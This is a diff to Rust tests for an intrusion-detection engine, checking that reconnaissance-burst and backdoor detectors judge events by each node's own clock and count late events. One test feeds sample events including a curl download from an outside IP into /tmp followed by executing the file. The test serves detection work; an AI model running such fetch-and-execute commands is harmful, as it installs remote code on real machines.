@@ -108,6 +108,7 @@ fn events_later_than_the_lateness_bound_are_ignored() {
         exec_at("whoami", Some("c1"), T + 3),
     ];
     assert_eq!(feed(&mut detector, &late), 0);
+    assert_eq!(detector.late_events(), 4, "and counted");
 }
 
 #[test]
@@ -135,8 +136,43 @@ fn state_expires_and_stays_bounded() {
         feed(&mut detector, &[exec_at("whoami", Some(&format!("c{i}")), T + i)]);
     }
     assert_eq!(detector.keys(), 3);
+    // Expiry goes by the node's own event time: an hour on node-a closes its windows, bar the new one.
+    feed(&mut detector, &[exec_at("whoami", Some("late"), T + 3_600_000)]);
     detector.expire(T + 3_600_000);
-    assert_eq!(detector.keys(), 0);
+    assert_eq!(detector.keys(), 1);
+}
+
+fn on_node(mut event: NodeEvent, node: &str) -> NodeEvent {
+    event.node = node.to_owned();
+    event
+}
+
+#[test]
+fn one_node_with_a_clock_an_hour_ahead_does_not_silence_the_others() {
+    let mut detector = recon();
+    // node-b's clock is an hour ahead; its events come first.
+    feed(&mut detector, &[on_node(exec_at("whoami", Some("b1"), T + 3_600_000), "node-b")]);
+    let burst = [
+        exec_at("id", Some("c1"), T),
+        exec_at("uname", Some("c1"), T + 1_000),
+        exec_at("hostname", Some("c1"), T + 2_000),
+        exec_at("whoami", Some("c1"), T + 3_000),
+    ];
+    assert_eq!(feed(&mut detector, &burst), 1, "node-a's burst is judged by node-a's time");
+    // Nor does the engine's watermark (node-b's time) expire node-a's open windows.
+    feed(&mut detector, &[exec_at("id", Some("c2"), T + 4_000)]);
+    detector.expire(T + 3_600_000);
+    assert!(detector.keys() >= 2, "node-a's windows are kept");
+    assert_eq!(detector.late_events(), 0);
+    // A late event on node-a itself is still late, and counted.
+    feed(&mut detector, &[exec_at("id", Some("c3"), T - 600_000)]);
+    assert_eq!(detector.late_events(), 1);
+
+    let mut backdoor = BackdoorArtifact::new(WindowConfig::default());
+    feed(&mut backdoor, &[on_node(exec_at("whoami", Some("b1"), T + 3_600_000), "node-b")]);
+    let fetched =
+        [exec_at("curl -o /tmp/x http://198.51.100.7/x", Some("c1"), T), exec_at("/tmp/x", Some("c1"), T + 5_000)];
+    assert_eq!(feed(&mut backdoor, &fetched), 1, "a download run on node-a, whatever node-b's clock says");
 }
 
 #[test]
